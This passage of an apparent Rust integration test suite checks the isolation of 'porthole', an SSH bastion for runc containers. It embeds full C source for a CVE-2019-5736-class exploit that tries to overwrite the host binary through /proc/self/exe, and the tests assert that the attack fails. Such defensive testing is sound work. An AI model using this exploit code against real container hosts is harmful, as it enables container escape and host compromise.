         ls /etc/ssh /etc/porthole 2>&1; echo end",
        marker = marker.display(),
        token = token_path.display(),
        config = host.config_path().display(),
    );
    let r = host.ssh(LOGIN, &key, &[&script]);
    assert!(r.success(), "{}", r.describe());
    let out = r.stdout_str();
    assert!(out.ends_with("end\n"), "{out}");
    for secret in [
        "HOST-MARKER-CONTENT",
        host.token(),
        "[control_plane]",
        "AuthorizedKeysCommand",
        "ForceCommand",
    ] {
        assert!(!out.contains(secret), "{secret:?} visible inside:\n{out}");
    }
    assert!(
        out.matches("No such file or directory").count() >= 7,
        "{out}"
    );
    let seen_hostname = out
        .lines()
        .find_map(|l| l.strip_prefix("HOSTNAME="))
        .unwrap();
    assert_ne!(seen_hostname.trim(), host_hostname.trim(), "{out}");
    // And the files are there on the host: the test would have seen them.
    assert!(marker.exists() && token_path.exists());
    drop(inst);
}

#[test]
fn session_sees_only_container_processes_and_its_root() {
    let (host, key) = bastion();
    let inst = instance(&host);
    let r = host.ssh(
        LOGIN,
        &key,
        &[
            "for p in /proc/[0-9]*; do echo \"${p#/proc/} $(cat $p/comm)\"; done; \
           echo ROOT=$(stat -c %d:%i /) PID1ROOT=$(stat -L -c %d:%i /proc/1/root)",
        ],
    );
    assert!(r.success(), "{}", r.describe());
    let out = r.stdout_str();
    let procs: Vec<(u32, String)> = out
        .lines()
        .filter_map(|l| {
            let (p, c) = l.split_once(' ')?;
            Some((p.parse().ok()?, c.to_owned()))
        })
        .collect();
    // pid 1 is the instance's init, not the host's.
    assert!(procs.contains(&(1, "sleep".to_owned())), "{out}");
    for (pid, comm) in &procs {
        assert!(
            !["sshd", "porthole-shell", "systemd", "init", "runc"].contains(&comm.as_str()),
            "host process {pid} {comm} visible inside:\n{out}"
        );
    }
    // init, the session's shell, and the loop's own subshells/cat.
    assert!(procs.len() <= 5, "{out}");
    // Both the session's root and init's root are the instance's rootfs.
    let meta = fs::metadata(inst.rootfs()).unwrap();
    let want = format!("{}:{}", meta.dev(), meta.ino());
    let line = out.lines().find(|l| l.starts_with("ROOT=")).unwrap();
    assert_eq!(line, format!("ROOT={want} PID1ROOT={want}"), "{out}");
}

// ----- issue 12: the host binary, seccomp, LSM labels, limits --------------

/// The attack of the runc CVE-2019-5736 class, as raw syscalls (no libc:
/// it runs as the image's ELF interpreter or as an LD_PRELOAD constructor).
/// It opens `/proc/self/exe` (the binary that re-ran itself through
/// `#!/proc/self/exe`), keeps it as fd 100, forks a detached child (own
/// session, so the end of the ssh session does not take it) that execs
/// `/pwn-writer`, which tries every 100 ms for 6 s to reopen fd 100 for
/// writing and overwrite its first bytes: the host file stops being busy
/// once the session ends. Every outcome is appended to `/pwn.log` in the
/// container.
const EXE_ATTACK_C: &str = r#"
static long sc(long n, long a, long b, long c) {
    long r;
    __asm__ volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c)
                      : "rcx", "r11", "memory");
    return r;
}
static long slen(const char *s) { long n = 0; while (s[n]) n++; return n; }
static void logs(const char *s) {
    long fd = sc(2, (long)"/pwn.log", 01 | 0100 | 02000, 0666);
    if (fd >= 0) { sc(1, fd, (long)s, slen(s)); sc(3, fd, 0, 0); }
}
static void lognum(const char *tag, long v) {
    char buf[96]; int i = 0;
    while (tag[i] && i < 60) { buf[i] = tag[i]; i++; }
    if (v < 0) { buf[i++] = '-'; v = -v; }
    char d[24]; int n = 0;
    do { d[n++] = '0' + v % 10; v /= 10; } while (v && n < 20);
    while (n) buf[i++] = d[--n];
    buf[i++] = '\n'; buf[i] = 0;
    logs(buf);
}
/* The writer: a program of its own, so that it does not keep the target
 * busy the way a fork of a process running it would. */
static void writer(void) {
    for (int k = 0; k < 60; k++) {
        long w = sc(2, (long)"/proc/self/fd/100", 01, 0);   /* O_WRONLY */
        if (w >= 0) {
            long r = sc(1, w, (long)"PWNED", 5);
            lognum("write ", r);
            sc(3, w, 0, 0);
            if (r == 5) { logs("pwned\n"); break; }
        } else {
            lognum("open-for-write ", w);
        }
        struct { long s, ns; } ts = { 0, 100000000 };
        sc(35, (long)&ts, 0, 0);
    }
}
static void attack(void) {
    long exe = sc(2, (long)"/proc/self/exe", 0, 0);
    lognum("exe-open ", exe);
    if (exe < 0) return;
    sc(33, exe, 100, 0);                       /* dup2 to fd 100 */
    if (sc(57, 0, 0, 0) != 0) return;          /* fork; the parent goes on */
    sc(112, 0, 0, 0);                          /* setsid */
    sc(3, 0, 0, 0); sc(3, 1, 0, 0); sc(3, 2, 0, 0);  /* let the session end */
    char *argv[] = { "/pwn-writer", 0 };
    char *envp[] = { 0 };
    sc(59, (long)"/pwn-writer", (long)argv, (long)envp);
    lognum("exec-writer ", -1);
    sc(60, 1, 0, 0);
}
#if defined(AS_WRITER)
void _start(void) { writer(); sc(231, 0, 0, 0); }
#elif defined(AS_INTERP)
void _start(void) { attack(); sc(231, 0, 0, 0); }
#else
__attribute__((constructor)) static void init(void) { attack(); }
#endif
"#;

#[derive(Clone, Copy)]
enum AttackPart {
    /// The image's ELF interpreter (static, no libc).
    Interpreter,
    /// An LD_PRELOAD object with a constructor.
    Preload,
    /// `/pwn-writer` (static, no libc).
    Writer,
}

/// Builds one part of the attack with `cc`; returns its bytes.
fn build_attack(dir: &Path, part: AttackPart) -> Vec<u8> {
    let src = dir.join("attack.c");
    fs::write(&src, EXE_ATTACK_C).unwrap();
    let (name, flags): (&str, &[&str]) = match part {
        AttackPart::Interpreter => ("interp", &["-DAS_INTERP", "-static", "-no-pie"]),
        AttackPart::Preload => ("preload.so", &["-shared", "-fPIC"]),
        AttackPart::Writer => ("writer", &["-DAS_WRITER", "-static", "-no-pie"]),
    };
    let out = dir.join(name);
    let st = Command::new("cc")
        .args(["-O1", "-nostdlib", "-fno-stack-protector", "-fno-builtin"])
        .args(flags)
        .arg("-o")
        .arg(&out)
        .arg(&src)
        .status()
        .unwrap();
    assert!(st.success(), "cc failed for the attack's {name}");
    fs::read(&out).unwrap()
}

/// The shared objects the session shell links (`ldd`), as (path, bytes):
/// an image carrying them can run the shell with its own loader.
fn shell_libraries() -> Vec<(String, Vec<u8>)> {
    let out = Command::new("ldd")
        .arg(env!("CARGO_BIN_EXE_porthole-shell"))
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| {
            let l = l.trim();
            let path = match l.split_once(" => ") {
                Some((_, rest)) => rest.split_whitespace().next()?,
                None => l.split_whitespace().next()?,
            };
            path.starts_with('/')
                .then(|| (path.to_owned(), fs::read(path).unwrap()))
        })
        .collect()
}

/// Logs in to a root instance whose login shell is `#!/proc/self/exe`,
/// waits until the attack has tried for 3 s after the session ended, and
/// checks the installed shell is byte-identical and still 4750.
fn exe_overwrite_is_impossible(opts: InstanceOpts) {
    let dir = tempfile::tempdir().unwrap();
    let opts = opts.file(
        "/pwn-writer",
        build_attack(dir.path(), AttackPart::Writer),
        0o755,
    );
    let (host, key) = bastion();
    let installed = host.dir().join("bin/porthole-shell");
    let before = fs::read(&installed).unwrap();
    let mode_before = fs::metadata(&installed).unwrap().mode();
    let inst = Instance::start(
        &host,
        SVC,
        "aaaaa",
        opts.root_user()
            .login_shell("/evil")
            .file("/evil", "#!/proc/self/exe\n", 0o755),
    );
    let r = host.ssh(LOGIN, &key, &[]);
    let log_path = inst.rootfs().join("pwn.log");
    let attempts = |text: &str| {
        text.lines()
            .filter(|l| l.starts_with("write ") || l.starts_with("open-for-write "))
            .count()
    };
    // The session is over (ssh returned); 30 more tries = 3 s without it.
    let seen = common::util::wait_for(Duration::from_secs(10), || {
        let text = fs::read_to_string(&log_path).unwrap_or_default();
        (attempts(&text) >= 30 || text.contains("pwned")).then_some(text)
    });
    let text = seen.unwrap_or_else(|| {
        panic!(
            "the attack never ran or stopped early: {:?}\n{}",
            fs::read_to_string(&log_path),
            r.describe()
        )
    });
    // It really ran, as the container's root, on /proc/self/exe.
    let opened = text
        .lines()
        .find_map(|l| l.strip_prefix("exe-open "))
        .and_then(|v| v.parse::<i64>().ok());
    assert!(matches!(opened, Some(fd) if fd >= 0), "{text}");
    assert!(!text.contains("pwned"), "the exe was written:\n{text}");
    assert!(
        text.lines()
            .filter(|l| l.starts_with("write "))
            .all(|l| l == format!("write -{}", libc::EPERM)),
        "every write through the sealed copy fails with EPERM:\n{text}"
    );
    assert!(
        fs::read(&installed).unwrap() == before,
        "the installed porthole-shell changed"
    );
    assert_eq!(fs::metadata(&installed).unwrap().mode(), mode_before);
    drop(inst);
}

#[test]
fn proc_self_exe_login_shell_with_the_images_own_interpreter_cannot_write_the_host_shell() {
    let dir = tempfile::tempdir().unwrap();
    let interp = build_attack(dir.path(), AttackPart::Interpreter);
    exe_overwrite_is_impossible(InstanceOpts::default().file(
        "/lib64/ld-linux-x86-64.so.2",
        interp,
        0o755,
    ));
}

#[test]
fn proc_self_exe_login_shell_with_ld_preload_cannot_write_the_host_shell() {
    let dir = tempfile::tempdir().unwrap();
    let preload = build_attack(dir.path(), AttackPart::Preload);
    let mut opts = InstanceOpts::default()
        .env("LD_PRELOAD=/evil.so")
        .file("/evil.so", preload, 0o755);
    // The image carries the real loader and libraries of the shell, so the
    // shell really starts inside and its loader honours LD_PRELOAD.
    for (path, bytes) in shell_libraries() {
        opts = opts.file(&path, bytes, 0o755);
    }
    exe_overwrite_is_impossible(opts);
}

/// The platform's profile in the tests: everything allowed but `unshare`
/// and `keyctl` (EPERM), the shape of Docker's default for these calls.
fn deny_unshare_and_keyctl() -> serde_json::Value {
    serde_json::json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "architectures": ["SCMP_ARCH_X86_64", "SCMP_ARCH_X86", "SCMP_ARCH_X32"],
        "syscalls": [{"names": ["unshare", "keyctl"], "action": "SCMP_ACT_ERRNO"}]
    })
}

const SECCOMP_PROBE: &str = "grep -E '^(Seccomp|NoNewPrivs):' /proc/self/status; \
     unshare -U true 2>&1; echo unshare=$?";

#[test]
fn session_gets_the_instances_seccomp_filter_exactly_as_runc_exec() {
    let (host, key) = bastion();
    // With no_new_privs (runc's default) the filter goes in last; without
    // it (Docker's default) before the uid change: both paths.
    for (slug, nnp) in [("nnpon", true), ("nnpof", false)] {
        let inst = Instance::start(
            &host,
            SVC,
            slug,
            InstanceOpts::default()
                .root_user()
                .process("noNewPrivileges", nnp.into())
                .linux("seccomp", deny_unshare_and_keyctl()),
        );
        let r = host.ssh(&format!("{SVC}-{slug}"), &key, &[SECCOMP_PROBE]);
        assert!(r.success(), "{}", r.describe());
        let session = r.stdout_str();
        let exec = inst.exec(&["sh", "-c", SECCOMP_PROBE]);
        let runc_exec = String::from_utf8_lossy(&exec.stdout).into_owned();
        assert!(session.contains("Seccomp:\t2"), "{session}");
        assert!(session.contains("unshare=1"), "{session}");
        assert!(
            session.contains(&format!("NoNewPrivs:\t{}", u8::from(nnp))),
            "{session}"
        );
        assert_eq!(session, runc_exec, "session and runc exec differ");
    }
    // The control: without a filter the same probe succeeds, so the
    // assertions above can fail.
    let plain = Instance::start(&host, SVC, "nosec", InstanceOpts::default().root_user());
    let r = host.ssh(&format!("{SVC}-nosec"), &key, &[SECCOMP_PROBE]);
    assert!(r.stdout_str().contains("Seccomp:\t0"), "{}", r.describe());
    assert!(r.stdout_str().contains("unshare=0"), "{}", r.describe());
    drop(plain);
}

#[test]
fn dockers_layout_rootfs_outside_the_bundle_still_gets_the_filter() {
    let (host, key) = bastion();
    let inst = Instance::start(
        &host,
        SVC,
        "aaaaa",
        InstanceOpts::default()
            .root_user()
            .rootfs_outside_bundle()
            .linux("seccomp", deny_unshare_and_keyctl()),
    );
    assert!(!inst.rootfs().starts_with(inst.bundle()));
    let r = host.ssh(LOGIN, &key, &[SECCOMP_PROBE]);
    assert!(r.success(), "{}", r.describe());
    assert!(r.stdout_str().contains("Seccomp:\t2"), "{}", r.describe());
    assert!(r.stdout_str().contains("unshare=1"), "{}", r.describe());
    // A config.json naming another root filesystem is not this container's.
    let config = inst.bundle().join("config.json");
    let original = fs::read(&config).unwrap();
    let mut spec: serde_json::Value = serde_json::from_slice(&original).unwrap();
    spec["root"]["path"] = "/somewhere/else".into();
    fs::write(&config, serde_json::to_vec(&spec).unwrap()).unwrap();
    assert_confinement_refusal(&host, &key, LOGIN, "another root filesystem");
    fs::write(&config, &original).unwrap();
}

/// Asserts a login to `login` is refused with `needle` in the sentence and
/// a `session.rejected` event with reason `confinement`.
fn assert_confinement_refusal(host: &TestHost, key: &ClientKey, login: &str, needle: &str) {
    let r = host.ssh(login, key, &["echo entered"]);
    assert!(!r.success(), "{}", r.describe());
    assert!(!r.stdout_str().contains("entered"), "{}", r.describe());
    let err = r.stderr_str();
    assert!(err.contains("cannot be entered safely"), "{err}");
    assert!(err.contains(needle), "{needle:?} not in {err}");
    host.expect_event(
        "session.rejected/confinement",
        |e| {
            e.is(
                "session.rejected",
                &[("reason", "confinement"), ("user", login)],
            ) && e.str("message").is_some_and(|m| m.contains(needle))
        },
        WAIT,
    );
}

#[test]
fn filter_porthole_cannot_reproduce_is_refused_with_a_sentence() {
    let (host, key) = bastion();
    // runc skips a syscall name its libseccomp does not know; leaving out
    // a deny rule would loosen the filter, so porthole refuses.
    let mut profile = deny_unshare_and_keyctl();
    profile["syscalls"][0]["names"]
        .as_array_mut()
        .unwrap()
        .push("porthole_future_syscall".into());
    let inst = Instance::start(
        &host,
        SVC,
        "aaaaa",
        InstanceOpts::default().linux("seccomp", profile),
    );
    assert_confinement_refusal(&host, &key, LOGIN, "porthole_future_syscall");
    drop(inst);
}

#[test]
fn filtered_instance_whose_bundle_lost_its_profile_or_trust_is_refused() {
    let (host, key) = bastion();
    let inst = Instance::start(
        &host,
        SVC,
        "aaaaa",
        InstanceOpts::default().linux("seccomp", deny_unshare_and_keyctl()),
    );
    let config = inst.bundle().join("config.json");
    let original = fs::read(&config).unwrap();
    // Anyone but root could change it: not trusted.
    fs::set_permissions(&config, std::os::unix::fs::PermissionsExt::from_mode(0o666)).unwrap();
    assert_confinement_refusal(&host, &key, LOGIN, "writable by group or others");
    fs::set_permissions(&config, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    // The init runs filtered but the bundle no longer says how.
    let mut spec: serde_json::Value = serde_json::from_slice(&original).unwrap();
    spec["linux"].as_object_mut().unwrap().remove("seccomp");
    fs::write(&config, serde_json::to_vec(&spec).unwrap()).unwrap();
    assert_confinement_refusal(&host, &key, LOGIN, "does not describe");
    // Restored, the same instance is entered: the refusals were the cause.
    fs::write(&config, &original).unwrap();
    let r = host.ssh(LOGIN, &key, &["grep Seccomp: /proc/self/status"]);
    assert!(r.stdout_str().contains("Seccomp:\t2"), "{}", r.describe());
    drop(inst);
}

#[test]
fn session_gets_the_instances_rlimits_and_oom_score_adj() {
    let (host, key) = bastion();
    let inst = Instance::start(
        &host,
        SVC,
        "aaaaa",
        InstanceOpts::default()
            .app_user()
            .process(
                "rlimits",
                serde_json::json!([
                    {"type": "RLIMIT_NOFILE", "soft": 123, "hard": 456},
                    {"type": "RLIMIT_NPROC", "soft": 777, "hard": 888}
                ]),
            )
            .process("oomScoreAdj", 345.into()),
    );
    // `running` is reported once runc start opened the exec fifo, a moment
    // before `runc init` (a Go program, which raises its soft NOFILE) has
    // set the limits and exec'd the init: wait for the init itself.
    let pid = inst.init_pid();
    common::util::wait_for(Duration::from_secs(10), || {
        fs::read_to_string(format!("/proc/{pid}/comm"))
            .is_ok_and(|c| c.trim() == "sleep")
            .then_some(())
    })
    .expect("the instance's init never became sleep");
    let probe = "ulimit -n; ulimit -Hn; ulimit -u; cat /proc/self/oom_score_adj";
    let r = host.ssh(LOGIN, &key, &[probe]);
    assert!(r.success(), "{}", r.describe());
    assert_eq!(r.stdout_str(), "123\n456\n777\n345\n", "{}", r.describe());
    let exec = inst.exec(&["sh", "-c", probe]);
    assert_eq!(String::from_utf8_lossy(&exec.stdout), r.stdout_str());
}

#[test]
fn session_gets_the_instances_lsm_label_where_the_host_has_one() {
    let lsm = fs::read_to_string("/sys/kernel/security/lsm").unwrap_or_default();
    if !lsm
        .split(',')
        .any(|l| l.trim() == "apparmor" || l.trim() == "selinux")
    {
        eprintln!(
            "SKIPPED: this host runs no labelling LSM (/sys/kernel/security/lsm: {:?}); \
             the label is applied from the init's attr/current where one runs",
            lsm.trim()
        );
        return;
    }
    let (host, key) = bastion();
    let inst = instance(&host);
    let init_label =
        fs::read_to_string(format!("/proc/{}/attr/current", inst.init_pid())).unwrap_or_default();
    let r = host.ssh(LOGIN, &key, &["cat /proc/self/attr/current"]);
    assert!(r.success(), "{}", r.describe());
    assert_eq!(
        r.stdout_str().trim_end_matches(['\0', '\n']),
        init_label.trim_end_matches(['\0', '\n'])
    );
}
